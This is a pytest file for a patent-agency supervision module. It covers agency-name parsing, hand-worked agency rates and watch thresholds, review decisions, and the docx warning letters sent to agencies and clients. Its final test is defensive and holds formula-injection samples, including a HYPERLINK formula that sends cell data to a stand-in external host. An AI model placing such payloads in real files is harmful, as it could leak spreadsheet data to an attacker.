"""Patent agencies (docs/agencies.md, supervision/agencies.py, reports/agency_letters.py): the agency cell read in
its many spellings, the figures of a tiny hand-built warehouse with hand-worked rates, the min_applications and
watch boundaries, the day asked (the day before, the day itself, the day after), and the docx letters.

The warehouse (one per module) holds three agencies of district 500118 on 2024-06-30:

* 50001 重庆甲专利代理事务所(普通合伙), spelt three ways (one without its code), 7 applications of the region by
  then: inventions A1 granted, A2 rejected, A3 deemed withdrawn, A4 deemed withdrawn then restored (pending), A7
  granted the day after (pending), A8 rejected on the day; utility model A5 filed on the day.  A6 is filed the day
  after, A9's applicant is of another district.  Concluded inventions 4: grant rate 1/4, rejection 2/4, deemed
  withdrawal 1/4.  Claims 10, 6, —, 8, 5, —, 1: average 30/5 = 6.0.
* 重庆乙知识产权代理有限公司 without a code ("有限责任公司" once): 3 applications, one under min_applications = 4.
* 50003 from a cell naming two agencies ("…50003；…50004"): 4 applications, exactly min_applications.

Reviews are written as real abnormal_reviews rows by the tests that need them (``reviewed``) and removed after.
"""

from __future__ import annotations

import io
from contextlib import contextmanager
from datetime import date, datetime
from pathlib import Path

import docx
import pytest

from hvpatent.reports.agency_letters import agency_letter
from hvpatent.supervision import agencies
from hvpatent.supervision.agencies import AgencyName, agency_detail, agency_keys, agency_name, agency_table
from hvpatent.supervision.config import config_from
from hvpatent.supervision.flags import Flag
from hvpatent.warehouse.store import Warehouse

AS_OF = date(2024, 6, 30)
REGION = "500118"
A_CODED = "重庆甲专利代理事务所(普通合伙) 50001"
A_BARE = "重庆甲专利代理事务所（普通合伙）"
A_FRONT = "50001 重庆甲专利代理事务所"
B_LONG, B_SHORT = "重庆乙知识产权代理有限责任公司", "重庆乙知识产权代理有限公司"
C_CELL = "重庆丙专利代理事务所 50003；重庆丁专利代理事务所 50004"
B_KEY = "n:重庆乙知识产权代理有限公司"
JIA = "n:北京集佳知识产权代理有限公司"
WATCH = {"flagged_share": 0.25, "min_flagged": 2, "max_grant_rate": 0.25, "min_concluded": 4,
         "deemed_withdrawal_rate": 0.3, "rejection_rate": 0.5, "confirmed": 1, "growth": 3.0}

# app_no: (type, filing, agency cell, applicant, county, claims, [(event day, event type)])
APPS = {
    "A1": ("invention", date(2022, 1, 10), A_CODED, "甲公司", REGION, 10, [(date(2023, 5, 1), "granted")]),
    "A2": ("invention", date(2022, 2, 10), A_BARE, "甲公司", REGION, 6, [(date(2023, 6, 1), "rejected")]),
    "A3": ("invention", date(2022, 3, 10), A_FRONT, "乙公司", REGION, None,
           [(date(2023, 7, 1), "deemed_withdrawn")]),
    "A4": ("invention", date(2023, 4, 10), A_CODED, "乙公司", REGION, 8,
           [(date(2023, 9, 1), "deemed_withdrawn"), (date(2023, 10, 1), "restoration")]),
    "A5": ("utility_model", date(2024, 6, 30), A_CODED, "丙公司", REGION, 5, []),
    "A6": ("invention", date(2024, 7, 1), A_CODED, "丙公司", REGION, 5, []),
    "A7": ("invention", date(2023, 1, 5), A_CODED, "丁公司", REGION, None, [(date(2024, 7, 1), "granted")]),
    "A8": ("invention", date(2023, 3, 1), A_CODED, "丁公司", REGION, 1, [(date(2024, 6, 30), "rejected")]),
    "A9": ("invention", date(2023, 3, 1), A_CODED, "外区公司", "500119", 3, []),
    "B1": ("design", date(2021, 5, 1), B_LONG, "戊公司", REGION, None, []),
    "B2": ("utility_model", date(2022, 5, 1), B_SHORT, "戊公司", REGION, None, []),
    "B3": ("utility_model", date(2024, 1, 1), B_SHORT, "戊公司", REGION, None, []),
    "C1": ("utility_model", date(2024, 1, 1), C_CELL, "己公司", REGION, None, []),
    "C2": ("utility_model", date(2024, 1, 2), C_CELL, "己公司", REGION, None, []),
    "C3": ("utility_model", date(2024, 1, 3), C_CELL, "己公司", REGION, None, []),
    "C4": ("utility_model", date(2024, 1, 4), C_CELL, "己公司", REGION, None, []),
    "N1": ("invention", date(2023, 1, 1), None, "庚公司", REGION, None, []),   # filed without an agency
}
FLAGS = [Flag("A2", "near_duplicate", {}, ("", "")), Flag("A3", "near_duplicate", {}, ("", "")),
         Flag("A3", "bulk_filing", {}, ("", "")), Flag("A9", "bulk_filing", {}, ("", ""))]


def settings(**watch):
    return config_from({"agencies": {"min_applications": 4, "trend_years": 3, "watch": {**WATCH, **watch}}}, "test")


@pytest.fixture(scope="module")
def wh(tmp_path_factory: pytest.TempPathFactory):
    wh = Warehouse(Path(tmp_path_factory.mktemp("agencies")) / "w.duckdb")
    for app_no, (kind, filed, cell, applicant, county, claims, events) in APPS.items():
        wh.con.execute("INSERT INTO applications (app_no, patent_type, filing_date, title, claims_count, agency,"
                       " source, row_hash, first_import_id, last_import_id) VALUES (?, ?, ?, ?, ?, ?, 'test', ?, 1,"
                       " 1)", [app_no, kind, filed, f"专利{app_no}", claims, cell, app_no])
        wh.con.execute("INSERT INTO parties (app_no, seq, role, name, name_norm, party_type, town_code, county_code,"
                       " city_code, province_code) VALUES (?, 1, 'applicant', ?, ?, 'enterprise', ?, ?, '500100',"
                       " '500000')", [app_no, applicant, applicant, county + "001000", county])
        for day, kind_of in events:
            wh.con.execute("INSERT INTO legal_events (app_no, event_date, event_type, raw_text, import_id)"
                           " VALUES (?, ?, ?, ?, 1)", [app_no, day, kind_of, kind_of])
    yield wh
    wh.close()


@pytest.fixture(scope="module")
def con(wh):
    return wh.ibis()


@contextmanager
def reviewed(wh, *decisions: tuple[str, datetime, str]):
    """abnormal_reviews rows (app_no, decided_at, status) for the block, removed after it."""
    for app_no, at, status in decisions:
        wh.con.execute("INSERT INTO abnormal_reviews VALUES (?, ?, ?, 'li', 'note', '[]', '[]')", [app_no, at, status])
    try:
        yield
    finally:
        wh.con.execute("DELETE FROM abnormal_reviews")


@pytest.fixture(scope="module")
def table(con) -> dict[str, dict]:
    return {r["key"]: r for r in agency_table(con, AS_OF, region=REGION, config=settings(), flags=FLAGS)}


# -- names -------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("cell", "want"), [
    ("北京集佳知识产权代理有限公司 11227", AgencyName("11227", "11227", "北京集佳知识产权代理有限公司")),
    ("北京集佳知识产权代理有限公司11227", AgencyName("11227", "11227", "北京集佳知识产权代理有限公司")),
    ("11227 北京集佳知识产权代理有限公司", AgencyName("11227", "11227", "北京集佳知识产权代理有限公司")),
    ("北京集佳知识产权代理有限公司（11227）", AgencyName("11227", "11227", "北京集佳知识产权代理有限公司")),
    ("【11227】北京集佳知识产权代理有限公司", AgencyName("11227", "11227", "北京集佳知识产权代理有限公司")),
    ("北京集佳知识产权代理有限公司(代码：11227)", AgencyName("11227", "11227", "北京集佳知识产权代理有限公司")),
    ("　北京　集佳知识产权代理有限公司　", AgencyName(JIA, None, "北京集佳知识产权代理有限公司")),
    ("北京集佳知识产权代理有限责任公司", AgencyName(JIA, None, "北京集佳知识产权代理有限责任公司")),
    ("苏州中合知识产权代理事务所(普通合伙) 32266",
     AgencyName("32266", "32266", "苏州中合知识产权代理事务所(普通合伙)")),
    ("苏州中合知识产权代理事务所（特殊普通合伙）",
     AgencyName("n:苏州中合知识产权代理事务所", None, "苏州中合知识产权代理事务所(特殊普通合伙)")),
    ("苏州中合知识产权代理事务所 (普通合伙",   # cut short
     AgencyName("n:苏州中合知识产权代理事务所", None, "苏州中合知识产权代理事务所(普通合伙)")),
    ("北京集佳知识产权代理有限公司 11227;北京三友知识产权代理有限公司 11127",
     AgencyName("11227", "11227", "北京集佳知识产权代理有限公司")),
    ("北京三友知识产权代理有限公司、北京集佳知识产权代理有限公司",
     AgencyName("n:北京三友知识产权代理有限公司", None, "北京三友知识产权代理有限公司")),
    ("King & Wood Mallesons (11001)", AgencyName("11001", "11001", "King & Wood Mallesons")),
    # "Co., Ltd.": the comma is part of an English name, not a second agency; the code is kept, and so is the final
    # "." of the abbreviation in the name shown
    ("Beijing Sanyou IP Agency Co., Ltd. 11127", AgencyName("11127", "11127", "Beijing Sanyou IP Agency Co., Ltd.")),
    ("(11127) Beijing Sanyou IP Agency Co., Ltd.",
     AgencyName("11127", "11127", "Beijing Sanyou IP Agency Co., Ltd.")),
    ("Beijing Sanyou IP Agency Co., Ltd.",
     AgencyName("n:beijingsanyouipagencycoltd", None, "Beijing Sanyou IP Agency Co., Ltd.")),
    ("Acme Patent Inc.., ", AgencyName("n:acmepatentinc", None, "Acme Patent Inc.")),   # one "." kept, not two
    ("重庆乙知识产权代理有限公司.", AgencyName(B_KEY, None, B_SHORT)),   # a "." after a Chinese name is dropped
    ("Beijing Sanyou IP Agency Co. Ltd",
     AgencyName("n:beijingsanyouipagencycoltd", None, "Beijing Sanyou IP Agency Co. Ltd")),
    ("Beijing Sanyou IP Agency Co., Ltd.; Other IP Firm", AgencyName("n:beijingsanyouipagencycoltd", None,
                                                                    "Beijing Sanyou IP Agency Co., Ltd.")),
    ("北京三友知识产权代理有限公司，北京集佳知识产权代理有限公司 11227",    # a full-width comma between two agencies
     AgencyName("n:北京三友知识产权代理有限公司", None, "北京三友知识产权代理有限公司")),
    ("ＡＢＣ　Ｐａｔｅｎｔ　Ｆｉｒｍ", AgencyName("n:abcpatentfirm", None, "ABC Patent Firm")),
    ("11227", AgencyName("11227", "11227", "11227")),
])
def test_agency_name_reads_real_looking_cells(cell, want):
    assert agency_name(cell) == want


@pytest.mark.parametrize("cell", [None, "", "   ", "无", "-", "—", "null"])
def test_agency_name_of_an_empty_cell_is_none(cell):
    assert agency_name(cell) is None


def test_agency_keys_join_spellings_without_code_to_the_coded_agency():
    bare, one, two = "重庆甲专利代理事务所（普通合伙）", "重庆甲专利代理事务所 50001", "50002 重庆甲专利代理事务所"
    english = "Beijing Sanyou IP Agency Co., Ltd."
    cells = [one, two, two, bare, bare, None, float("nan"), "无", "重庆乙代理所", english, english + " 11127"]
    keys = agency_keys(cells)
    assert set(keys) == {one, two, bare, "重庆乙代理所", english, english + " 11127"}   # empty cells left out
    # the name given two codes: 50002 by two applications, 50001 by one; the bare spelling joins 50002
    assert (keys[one].key, keys[two].key, keys[bare].key) == ("50001", "50002", "50002")
    assert (keys[bare].code, keys[bare].name) == (None, "重庆甲专利代理事务所(普通合伙)")   # key joined, name kept
    assert keys["重庆乙代理所"].key == "n:重庆乙代理所"
    assert keys[english].key == keys[english + " 11127"].key == "11127"


# -- the table ---------------------------------------------------------------------------------------------------

def test_spellings_with_and_without_code_are_one_agency(table):
    assert set(table) == {"50001", B_KEY, "50003"}
    a = table["50001"]
    assert (a["code"], a["name"]) == ("50001", "重庆甲专利代理事务所(普通合伙)")   # the most frequent spelling
    assert a["variants"] == sorted([A_CODED, A_BARE, A_FRONT])
    b = table[B_KEY]
    assert (b["code"], b["name"], b["applications"]) == (None, B_SHORT, 3)
    assert table["50003"]["name"] == "重庆丙专利代理事务所"   # the first agency of a cell naming two


def test_hand_worked_figures(table):
    a = table["50001"]
    assert a["applications"] == 7                      # A1-A5, A7, A8: not A6 (filed after), not A9 (other district)
    assert a["by_type"] == {"invention": 6, "utility_model": 1, "design": 0}
    assert a["invention_share"] == pytest.approx(6 / 7)
    assert a["concluded"] == 4                         # A1, A2, A3, A8; A4 restored, A7 granted after the day
    assert (a["grant_rate"], a["rejection_rate"], a["deemed_withdrawal_rate"]) == (0.25, 0.5, 0.25)
    assert a["avg_claims"] == 6.0
    assert (a["flagged"], a["flagged_share"], a["cleared"]) == (2, pytest.approx(2 / 7), 0)
    assert a["clients"] == 4
    assert a["trend"] == [{"year": 2022, "applications": 3}, {"year": 2023, "applications": 3},
                          {"year": 2024, "applications": 1}]
    assert (a["last_12_months"], a["previous_12_months"], a["growth"]) == (1, 3, pytest.approx(1 / 3))
    b = table[B_KEY]
    assert b["by_type"] == {"invention": 0, "utility_model": 2, "design": 1}
    assert (b["concluded"], b["grant_rate"], b["avg_claims"], b["invention_share"]) == (0, None, None, 0.0)


def test_rank_only_from_min_applications(table):
    assert table["50001"]["rank"] == 1                 # flagged share 2/7 first
    assert table["50003"]["rank"] == 2                 # exactly min_applications (4): ranked
    assert table[B_KEY]["rank"] is None                # one under (3): listed, not ranked nor watched
    assert (table[B_KEY]["watch"], table[B_KEY]["reasons"]) == (False, [])


def test_watch_reasons_name_the_figure_and_threshold(table):
    a = table["50001"]
    assert a["watch"] is True
    assert [en for _, en in a["reasons"]] == [
        "2 flagged applications, 28.6% of its applications (thresholds ≥ 2 and ≥ 25.0%)",
        "invention grant rate 25.0% (threshold ≤ 25.0%, 4 concluded)",
        "invention rejection rate 50.0% (threshold ≥ 50.0%, 4 concluded)",
    ]
    assert a["reasons"][0][0] == "疑似非正常申请 2 件，占比 28.6%（阈值 ≥ 2 件且 ≥ 25.0%）"
    assert table["50003"]["watch"] is False


def test_watch_thresholds_just_beyond_are_not_reasons(con):
    rows = {r["key"]: r for r in agency_table(
        con, AS_OF, region=REGION, flags=FLAGS,
        config=settings(flagged_share=0.29, max_grant_rate=0.24, rejection_rate=0.51, deemed_withdrawal_rate=0.25))}
    assert [en.split(" (")[0] for _, en in rows["50001"]["reasons"]] == ["invention deemed-withdrawal rate 25.0%"]


def test_rates_need_min_concluded(con):
    rows = {r["key"]: r for r in agency_table(con, AS_OF, region=REGION, flags=FLAGS,
                                              config=settings(min_concluded=5))}
    assert [en.split(" ")[1] for _, en in rows["50001"]["reasons"]] == ["flagged"]   # 4 concluded < 5


@pytest.mark.parametrize(("min_flagged", "watched"), [(1, True), (2, True), (3, False)])
def test_flagged_reason_needs_min_flagged(con, min_flagged, watched):
    rows = {r["key"]: r for r in agency_table(con, AS_OF, region=REGION, flags=FLAGS,
                                              config=settings(min_flagged=min_flagged, min_concluded=5))}
    assert bool(rows["50001"]["reasons"]) is watched     # 2 flagged (28.6%); no rate reason under 5 concluded


def test_count_reasons_hold_under_min_applications_rate_reasons_do_not(con):
    # min_applications 8: 50001 (7) is listed unranked; its 2 flags still watch it, its rates no longer
    config = config_from({"agencies": {"min_applications": 8, "trend_years": 3, "watch": WATCH}}, "test")
    rows = {r["key"]: r for r in agency_table(con, AS_OF, region=REGION, config=config, flags=FLAGS)}
    a = rows["50001"]
    assert (a["rank"], a["watch"]) == (None, True)
    assert [en for _, en in a["reasons"]] == [
        "2 flagged applications, 28.6% of its applications (thresholds ≥ 2 and ≥ 25.0%)"]


def test_small_agency_with_flags_or_a_confirmation_is_watched(wh, con):
    # 重庆乙 has 3 applications, under min_applications 4: never ranked, yet watched on counts
    flags = [Flag("B1", "bulk_filing", {}, ("", "")), Flag("B2", "bulk_filing", {}, ("", ""))]
    b = {r["key"]: r for r in agency_table(con, AS_OF, region=REGION, config=settings(), flags=flags)}[B_KEY]
    assert (b["rank"], b["watch"], [en for _, en in b["reasons"]]) == (
        None, True, ["2 flagged applications, 66.7% of its applications (thresholds ≥ 2 and ≥ 25.0%)"])
    with reviewed(wh, ("B3", datetime(2024, 6, 1, 9), "confirmed")):
        b = {r["key"]: r for r in agency_table(con, AS_OF, region=REGION, config=settings(), flags=[])}[B_KEY]
    assert (b["rank"], b["confirmed"], b["watch"]) == (None, 1, True)
    assert b["reasons"] == [("经复核确认的非正常申请 1 件（阈值 ≥ 1）",
                             "1 applications confirmed abnormal on review (threshold ≥ 1)")]


def test_min_applications_boundary_moves_with_the_setting(con):
    config = config_from({"agencies": {"min_applications": 5, "watch": WATCH}}, "test")
    rows = {r["key"]: r["rank"] for r in agency_table(con, AS_OF, region=REGION, config=config, flags=FLAGS)}
    assert rows == {"50001": 1, "50003": None, B_KEY: None}


@pytest.mark.parametrize(("day", "applications", "concluded", "granted"), [
    (date(2024, 6, 29), 6, 3, 1),    # A5 filed and A8 rejected on the 30th: not yet
    (AS_OF, 7, 4, 1),
    (date(2024, 7, 1), 8, 5, 2),     # A6 filed, A7 granted on the 1st
])
def test_only_what_was_known_on_the_day(con, day, applications, concluded, granted):
    row = next(r for r in agency_table(con, day, region=REGION, config=settings(), flags=[]) if r["key"] == "50001")
    assert (row["applications"], row["concluded"]) == (applications, concluded)
    assert row["grant_rate"] == pytest.approx(granted / concluded)


@pytest.mark.parametrize(("decided_at", "confirmed"), [
    (datetime(2024, 6, 29, 10, 0), 1), (datetime(2024, 6, 30, 23, 59), 1), (datetime(2024, 7, 1, 0, 0), 0)])
def test_confirmed_counts_decisions_on_or_before_the_day(wh, con, decided_at, confirmed):
    # A1 confirmed (a real abnormal_reviews row) the day before, late on the day, or at midnight after it
    with reviewed(wh, ("A1", decided_at, "confirmed"), ("A9", datetime(2024, 6, 1), "confirmed")):
        rows = {r["key"]: r for r in agency_table(con, AS_OF, region=REGION, config=settings(), flags=[])}
    assert rows["50001"]["confirmed"] == confirmed           # A9's applicant is of another district: never counted
    reason = "1 applications confirmed abnormal on review (threshold ≥ 1)"
    assert (reason in [en for _, en in rows["50001"]["reasons"]]) is bool(confirmed)


def test_confirmed_then_cleared_counts_the_latest_decision(wh, con):
    with reviewed(wh, ("A1", datetime(2024, 6, 1), "confirmed"), ("A1", datetime(2024, 6, 30, 12), "cleared")):
        row = next(r for r in agency_table(con, AS_OF, region=REGION, config=settings(), flags=[])
                   if r["key"] == "50001")
    assert row["confirmed"] == 0


@pytest.mark.parametrize("cleared_at", [datetime(2024, 6, 29, 9), datetime(2024, 6, 30, 23, 59),
                                        datetime(2024, 7, 1, 0, 0), datetime(2024, 9, 1, 9)])
def test_a_later_clearance_withdraws_the_confirmation(wh, con, cleared_at):
    # A1 (not flagged) and A2 (flagged) confirmed on 2024-06-01, then cleared the day before as_of, late on the day,
    # at midnight after it or two months on: on 2024-06-30 neither counts as confirmed, neither is the reason, and
    # the letter cites no confirmation; A2 is counted cleared, not flagged
    confirmed_on = datetime(2024, 6, 1, 9)
    with reviewed(wh, ("A1", confirmed_on, "confirmed"), ("A2", confirmed_on, "confirmed"),
                  ("A1", cleared_at, "cleared"), ("A2", cleared_at, "cleared")):
        d = agency_detail(con, "50001", AS_OF, region=REGION, config=settings(), flags=FLAGS)
    assert (d["flagged"], d["cleared"], d["confirmed"]) == (1, 1, 0)
    assert [(f["app_no"], f["status"]) for f in d["flagged_applications"]] == [("A3", "pending")]
    assert not [en for _, en in d["reasons"] if "confirmed" in en]
    text, _ = _text(agency_letter(d, to="agency", as_of=AS_OF))
    assert "经复核确认为非正常申请" not in text and "已确认" not in text and "A2" not in text


# -- cleared applications -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("decided_at", [datetime(2024, 6, 29, 9), datetime(2024, 6, 30, 23, 59),
                                        datetime(2024, 7, 1, 9)])
def test_cleared_application_leaves_the_flagged_figures_whenever_decided(wh, con, decided_at):
    # A2 (flagged) cleared the day before, on the day or after as_of: its latest decision, as the queue shows it;
    # A1 (not flagged) cleared too: not counted as a cleared flag
    with reviewed(wh, ("A2", decided_at, "cleared"), ("A1", decided_at, "cleared")):
        d = agency_detail(con, "50001", AS_OF, region=REGION, config=settings(), flags=FLAGS)
    assert (d["flagged"], d["flagged_share"], d["cleared"]) == (1, pytest.approx(1 / 7), 1)
    assert [f["app_no"] for f in d["flagged_applications"]] == ["A3"]
    assert {c["applicant"]: c["flagged"] for c in d["clients"]}["甲公司"] == 0    # A2 was 甲公司's only flag
    # 1 flagged < min_flagged 2: the flagged-share reason goes; 1/7 would be under 25% anyway
    assert not [en for _, en in d["reasons"] if "flagged" in en]


def test_cleared_then_confirmed_stays_flagged(wh, con):
    with reviewed(wh, ("A2", datetime(2024, 6, 1), "cleared"), ("A2", datetime(2024, 6, 2), "confirmed")):
        d = agency_detail(con, "50001", AS_OF, region=REGION, config=settings(), flags=FLAGS)
    assert (d["flagged"], d["cleared"], d["confirmed"]) == (2, 0, 1)
    assert [f["app_no"] for f in d["flagged_applications"]] == ["A2", "A3"]


def test_cleared_application_leaves_the_letters(wh, con):
    with reviewed(wh, ("A2", datetime(2024, 7, 15), "cleared")):
        d = agency_detail(con, "50001", AS_OF, region=REGION, config=settings(), flags=FLAGS)
    clients, _ = _text(agency_letter(d, to="clients", as_of=AS_OF))
    assert clients.count("非正常专利申请风险提示函") == 1 and "乙公司：" in clients      # 乙公司 (A3) only
    assert "甲公司" not in clients and "A2" not in clients
    one, _ = _text(agency_letter(d, to="clients", as_of=AS_OF, client="甲公司"))
    assert "没有疑似非正常申请" in one and "A2" not in one
    agency, _ = _text(agency_letter(d, to="agency", as_of=AS_OF))
    assert "其中1件经本局筛查提示为疑似非正常申请" in agency and "A3" in agency and "A2" not in agency


def test_flags_computed_when_not_given(con, monkeypatch):
    calls = []
    monkeypatch.setattr(agencies, "flag_applications",
                        lambda c, as_of, region=None, config=None: calls.append((as_of, region)) or FLAGS[:1])
    rows = {r["key"]: r for r in agency_table(con, AS_OF, region=REGION, config=settings())}
    assert calls == [(AS_OF, REGION)]
    assert rows["50001"]["flagged"] == 1


# -- one agency --------------------------------------------------------------------------------------------------

def test_detail_lists_clients_and_flagged_applications(con):
    d = agency_detail(con, "50001", AS_OF, region=REGION, config=settings(), flags=FLAGS)
    assert d["applications"] == 7 and d["rank"] == 1
    assert [(c["applicant"], c["applications"], c["flagged"]) for c in d["clients"]] == [
        ("乙公司", 2, 1), ("甲公司", 2, 1), ("丁公司", 2, 0), ("丙公司", 1, 0)]
    assert [(f["app_no"], f["rules"]) for f in d["flagged_applications"]] == [
        ("A2", ["near_duplicate"]), ("A3", ["near_duplicate", "bulk_filing"])]


def test_detail_by_spelling_and_unknown_key(con):
    by_name = agency_detail(con, "重庆甲专利代理事务所", AS_OF, region=REGION, config=settings(), flags=FLAGS)
    assert by_name["key"] == "50001"
    assert agency_detail(con, "99999", AS_OF, region=REGION, config=settings(), flags=FLAGS) is None
    assert agency_detail(con, "n:没有这家", AS_OF, region=REGION, config=settings(), flags=FLAGS) is None


# -- letters -----------------------------------------------------------------------------------------------------

def _text(data: bytes) -> tuple[str, str]:
    doc = docx.Document(io.BytesIO(data))
    cells = [c.text for t in doc.tables for row in t.rows for c in row.cells]
    return "\n".join(p.text for p in doc.paragraphs) + "\n" + "\n".join(cells), doc.element.xml


@pytest.fixture(scope="module")
def detail(con) -> dict:
    return agency_detail(con, "50001", AS_OF, region=REGION, config=settings(), flags=FLAGS)


def test_letter_to_the_agency(detail):
    data = agency_letter(detail, to="agency", as_of=AS_OF, issuer="永川区知识产权局", issued_on=date(2024, 7, 2))
    text, _ = _text(data)
    figures = {r.cells[0].text: r.cells[1].text for r in docx.Document(io.BytesIO(data)).tables[0].rows}
    assert (figures["代理申请量"], figures["本地区委托人"], figures["发明授权率（审结）"]) == ("7", "4", "25.0%")
    assert "重庆甲专利代理事务所(普通合伙)（50001）：" in text
    assert "疑似非正常申请 2 件，占比 28.6%（阈值 ≥ 2 件且 ≥ 25.0%）" in text
    assert "发明驳回率 50.0%（阈值 ≥ 50.0%，审结 4 件）" in text
    assert "A2" in text and "A3" in text and "A1\n" not in text
    assert "《规范申请专利行为的规定》" in text and "永川区知识产权局" in text and "2024年7月2日" in text


def test_letter_to_the_clients_one_page_each(detail):
    text, _ = _text(agency_letter(detail, to="clients", as_of=AS_OF))
    assert text.count("非正常专利申请风险提示函") == 2          # 乙公司 and 甲公司: the clients with flags
    assert "甲公司：" in text and "乙公司：" in text and "丁公司" not in text
    one, _ = _text(agency_letter(detail, to="clients", as_of=AS_OF, client="甲公司", lang="en"))
    assert "To 甲公司:" in one and "A2" in one and "A3" not in one


@pytest.mark.parametrize(("decided_at", "status"), [
    (datetime(2024, 6, 29, 9), "confirmed"), (datetime(2024, 6, 30, 23, 59), "confirmed"),
    (datetime(2024, 7, 1, 0, 0), "pending")])
def test_flagged_applications_carry_their_status_on_the_day(wh, con, decided_at, status):
    # A2 confirmed the day before, late on the day, at midnight after it: confirmed on 2024-06-30 only if by then
    with reviewed(wh, ("A2", decided_at, "confirmed")):
        d = agency_detail(con, "50001", AS_OF, region=REGION, config=settings(), flags=FLAGS)
    assert [(f["app_no"], f["status"]) for f in d["flagged_applications"]] == [("A2", status), ("A3", "pending")]
    assert d["confirmed"] == (status == "confirmed")


@pytest.fixture(scope="module")
def confirmed_detail(wh, con) -> dict:
    """50001 on 2024-06-30 with A2 (甲公司's flag) confirmed on 2024-06-01; A3 (乙公司's) awaits verification."""
    with reviewed(wh, ("A2", datetime(2024, 6, 1, 9), "confirmed")):
        return agency_detail(con, "50001", AS_OF, region=REGION, config=settings(), flags=FLAGS)


def _status_column(data: bytes) -> dict[str, str]:
    table = docx.Document(io.BytesIO(data)).tables[-1]
    return {r.cells[0].text: r.cells[-1].text for r in table.rows[1:]}


def test_agency_letter_tells_confirmed_from_pending(confirmed_detail):
    data = agency_letter(confirmed_detail, to="agency", as_of=AS_OF)
    text, _ = _text(data)
    assert "其中2件经本局筛查提示为疑似非正常申请，经本局复核已确认为非正常申请1件、待核实1件。" in text
    assert _status_column(data) == {"A2": "经复核确认为非正常申请", "A3": "疑似，待核实"}
    assert "除注明经复核确认的申请外，仅为核查线索" in text and "不构成对任何申请的认定" not in text
    english = agency_letter(confirmed_detail, to="agency", as_of=AS_OF, lang="en")
    assert ("2 of them were flagged for review by this office's checks; of these, 1 confirmed abnormal on "
            "review and 1 awaiting verification." in _text(english)[0])
    assert _status_column(english) == {"A2": "confirmed abnormal on review", "A3": "suspected, awaiting verification"}


def test_agency_letter_without_confirmations_says_pending(detail):
    data = agency_letter(detail, to="agency", as_of=AS_OF)
    text, _ = _text(data)
    assert "其中2件经本局筛查提示为疑似非正常申请。有关情况如下" in text
    assert set(_status_column(data).values()) == {"疑似，待核实"} and "不构成对任何申请的认定" in text


def test_client_letters_tell_confirmed_from_pending(confirmed_detail):
    jia = agency_letter(confirmed_detail, to="clients", as_of=AS_OF, client="甲公司")
    text, _ = _text(jia)
    assert "有1件经本局筛查提示为疑似非正常申请，均已经本局复核确认为非正常申请，详见下表" in text
    assert _status_column(jia) == {"A2": "经复核确认为非正常申请"}
    yi = agency_letter(confirmed_detail, to="clients", as_of=AS_OF, client="乙公司")
    assert "有1件经本局筛查提示为疑似非正常申请，详见下表" in _text(yi)[0]
    assert _status_column(yi) == {"A3": "疑似，待核实"}
    english = agency_letter(confirmed_detail, to="clients", as_of=AS_OF, client="甲公司", lang="en")
    assert "checks; all of them were confirmed abnormal on review:" in _text(english)[0]


def _signature(data: bytes) -> str:
    paragraphs = [p.text for p in docx.Document(io.BytesIO(data)).paragraphs if p.text]
    return paragraphs[-2]   # the office, then the date


@pytest.mark.parametrize("to", ["agency", "clients"])
def test_english_letter_is_signed_in_english(detail, to):
    def signed(lang: str, issuer: str | None) -> str:
        return _signature(agency_letter(detail, to=to, as_of=AS_OF, lang=lang, issuer=issuer, client="甲公司",
                                        issued_on=date(2024, 7, 2)) if to == "clients" else
                          agency_letter(detail, to=to, as_of=AS_OF, lang=lang, issuer=issuer,
                                        issued_on=date(2024, 7, 2)))
    assert signed("en", "永川区知识产权局") == "Intellectual Property Office (永川区知识产权局)"
    assert signed("zh", "永川区知识产权局") == "永川区知识产权局"
    assert signed("en", "Yongchuan IP Office") == "Yongchuan IP Office"      # an English issuer as given
    assert signed("en", None) == "Intellectual Property Office"


def test_letter_rejects_an_unknown_addressee(detail):
    with pytest.raises(ValueError, match="unknown addressee"):
        agency_letter(detail, to="press", as_of=AS_OF)


def test_letter_writes_formula_like_names_as_plain_text():
    evil = '=HYPERLINK("http://x.example/?"&A1,"详情")'
    detail = {"key": "n:x", "code": None, "name": evil, "applications": 1, "invention_share": 1.0,
              "grant_rate": None, "rejection_rate": None, "deemed_withdrawal_rate": None, "avg_claims": None,
              "flagged": 1, "flagged_share": 1.0, "confirmed": 0, "reasons": [], "clients": [],
              "flagged_applications": [{"app_no": "X1", "title": "@SUM(1+1)\x00", "applicant": "-x",
                                        "applicant_name": "+甲", "filing_date": AS_OF, "rules": ["bulk_filing"]}]}
    text, xml = _text(agency_letter(detail, to="agency", as_of=AS_OF))
    assert evil + "：" in text and "@SUM(1+1)\ufffd" in text and "+甲" in text
    assert "instrText" not in xml and "fldSimple" not in xml     # no Word field anywhere
